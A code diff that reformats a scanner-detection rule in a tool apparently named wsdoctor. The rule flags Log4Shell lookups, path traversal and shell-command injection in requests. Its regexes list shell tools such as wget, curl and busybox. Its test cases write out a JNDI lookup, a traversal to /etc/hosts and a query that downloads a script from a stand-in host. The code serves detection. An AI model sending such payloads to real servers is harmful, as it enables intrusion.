@@ -23,14 +23,16 @@ _ATTACKS: tuple[tuple[str, tuple[str, ...], re.Pattern[str]], ...] = (
         "a path traversal",
         ("..", "%2e", "%%32"),
         re.compile(
-            r"(?i)(?:\.\.|%2e%2e|\.%2e|%2e\.|%%32%65)(?:/|\\|%2f|%5c|%c0%af|%252f){1,2}(?:\.|%2e|etc|bin|windows|proc|boot)"
+            r"(?i)(?:\.\.|%2e%2e|\.%2e|%2e\.|%%32%65)(?:/|\\|%2f|%5c|%c0%af|%252f){1,2}(?:\.|%2e|etc|bin"
+            r"|windows|proc|boot)"
         ),
     ),
     (
         "a shell command",
         ("wget", "curl", "chmod", "busybox", "tftp", "rm+", "rm%20", "rm -"),
         re.compile(
-            r"(?i)(?:;|\||%7c|%3b|`|\$\(|\+|%20|&)(?:wget|curl|chmod|busybox|tftp|rm)(?:\+|%20|\s|\$\{IFS\})(?:-|https?|/|\+|[\w.]{0,40}/)"
+            r"(?i)(?:;|\||%7c|%3b|`|\$\(|\+|%20|&)(?:wget|curl|chmod|busybox|tftp|rm)(?:\+|%20|\s|\$\{IFS\})(?:-"
+            r"|https?|/|\+|[\w.]{0,40}/)"
         ),
     ),
     (
@@ -51,7 +53,7 @@ _ATTACKS: tuple[tuple[str, tuple[str, ...], re.Pattern[str]], ...] = (
         ("<script", "%3cscript"),
         re.compile(r"(?i)(?:<|%3c)script(?:>|%3e|\s)"),
     ),
-)  # fmt: skip
+)
 _LIMIT = 2_000
 
 
@@ -83,11 +85,14 @@ RULE = Rule(
     level="warning",
     confidence=0.95,
     match=match,
-    why="The request carries text that does harm in some other program: a look-up that Log4j would follow, a path out of the "
-    "folder, a command for a shell. It is sent blindly to every address. A WebSocket server does not execute it; but a logger "
+    why="The request carries text that does harm in some other program: a look-up that Log4j "
+    "would follow, a path out of the "
+    "folder, a command for a shell. It is sent blindly to every address. A WebSocket server "
+    "does not execute it; but a logger "
     "or a page that shows the log could, so wsdoctor escapes what it prints.",
     remedy=Remedy(
-        "Nothing is broken if your logging is up to date. Ban the address, and close the port to those who need not reach it.",
+        "Nothing is broken if your logging is up to date. Ban the address, and close the port to "
+        "those who need not reach it.",
         {
             "fail2ban": "Feed it wsdoctor's lines of class scanner.",
             "Log4j": "Update to 2.17.1 or later where requests are logged by Java.",
@@ -98,13 +103,28 @@ RULE = Rule(
         Reference("OWASP: path traversal", "https://owasp.org/www-community/attacks/Path_Traversal"),
     ),
     cases=(
-        Case("Log4Shell in a field", request("GET / HTTP/1.1", "Host: 203.0.113.80:8080", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}")),
+        Case(
+            "Log4Shell in a field",
+            request("GET / HTTP/1.1", "Host: 203.0.113.80:8080", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}"),
+        ),
         Case("a traversal", request("GET /static/../../../../etc/hosts HTTP/1.1", "Host: 203.0.113.80")),
         Case("a command", request("GET /x?cmd=cd+/tmp;wget+http://192.0.2.1/a.sh HTTP/1.1", "Host: 203.0.113.80")),
     ),
     near_misses=(
-        Case("a template left unfilled", request("GET /${path} HTTP/1.1", "Host: chat:8080", "User-Agent: axios/1.7.2")),
+        Case(
+            "a template left unfilled", request("GET /${path} HTTP/1.1", "Host: chat:8080", "User-Agent: axios/1.7.2")
+        ),
         Case("dots in a name", request("GET /v1..2/ws HTTP/1.1", "Host: chat:8080")),
     ),
-    supersedes=("exploit-path", "bare-user-agent", "poses-as-browser", "request-by-address", "haproxy-http-check", "head-request", "command-line-request", "http-library-request", "api-call"),
-)  # fmt: skip
+    supersedes=(
+        "exploit-path",
+        "bare-user-agent",
+        "poses-as-browser",
+        "request-by-address",
+        "haproxy-http-check",
+        "head-request",
+        "command-line-request",
+        "http-library-request",
+        "api-call",
+    ),
+)
